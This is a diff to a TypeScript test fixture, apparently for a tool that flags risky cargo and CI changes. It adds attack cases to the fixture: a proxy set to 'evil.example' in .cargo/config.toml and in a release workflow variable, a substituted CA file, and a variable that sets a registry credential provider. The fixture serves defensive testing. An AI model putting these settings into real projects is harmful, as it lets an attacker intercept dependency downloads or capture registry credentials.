@@ -1,6 +1,20 @@
-import type { AttackClass } from "./attack.ts";
+import { APP } from "./app.ts";
+import type { Attack, AttackClass } from "./attack.ts";
+import { changed } from "./other-locks.ts";
 
 const CONFIG = ".cargo/config.toml";
+const WORKFLOW = ".github/workflows/release.yml";
+
+/** A variable for all jobs of the release. */
+function variable(
+  name: string,
+  text: string,
+  real: string,
+  { expect = "loud" }: Partial<Pick<Attack, "expect">> = {},
+): Attack {
+  const change = { [WORKFLOW]: changed(APP[WORKFLOW], ["on: push\n", `on: push\nenv:\n  ${text}\n`]) };
+  return { name, change, expect, at: WORKFLOW, real };
+}
 
 /** Settings of cargo that include a file beside. */
 const INCLUDING = { [CONFIG]: 'include = ["../ci/c.toml"]\n', "ci/c.toml": "[build]\njobs = 2\n" };
@@ -68,6 +82,43 @@ export const CARGO_SETTINGS: AttackClass = {
       expect: "loud",
       at: CONFIG,
       real: "The crate cc runs what CC names.",
+    },
+    {
+      name: "puts somebody between cargo and the registry",
+      change: { [CONFIG]: '[http]\nproxy = "http://evil.example"\n' },
+      expect: "loud",
+      at: CONFIG,
+      real: "cargo 1.95 asked the proxy for the index of crates.io.",
+    },
+    {
+      name: "has cargo believe another authority",
+      change: { [CONFIG]: '[http]\ncainfo = "ci/ca.pem"\n' },
+      expect: "loud",
+      at: CONFIG,
+      real: "By cargo's manual. Not tried.",
+    },
+    variable(
+      "puts somebody between by a variable",
+      "CARGO_HTTP_PROXY: http://evil.example",
+      "cargo 1.95 asked the proxy for the index of crates.io.",
+    ),
+    variable(
+      "lets a program hand out tokens by a variable",
+      "CARGO_REGISTRY_GLOBAL_CREDENTIAL_PROVIDERS: ci/tokens",
+      "By cargo's manual. Not tried.",
+    ),
+    variable(
+      "names variables that decide nothing of this",
+      "CARGO_SOURCE_CRATES_IO_REPLACE_WITH: mirror\n  CARGO_NET_RETRY: 10\n  CARGO_REGISTRY_DEFAULT: ours",
+      "cargo 1.95 takes no source from variables, and asked crates.io whatever the default is.",
+      { expect: "named" },
+    ),
+    {
+      name: "names how cargo asks, and says no more",
+      change: { [CONFIG]: "[http]\nmultiplexing = false\n\n[net]\ngit-fetch-with-cli = true\n" },
+      expect: "named",
+      at: CONFIG,
+      real: "The same registry answers.",
     },
     {
       name: "says nothing of jobs in an included file",
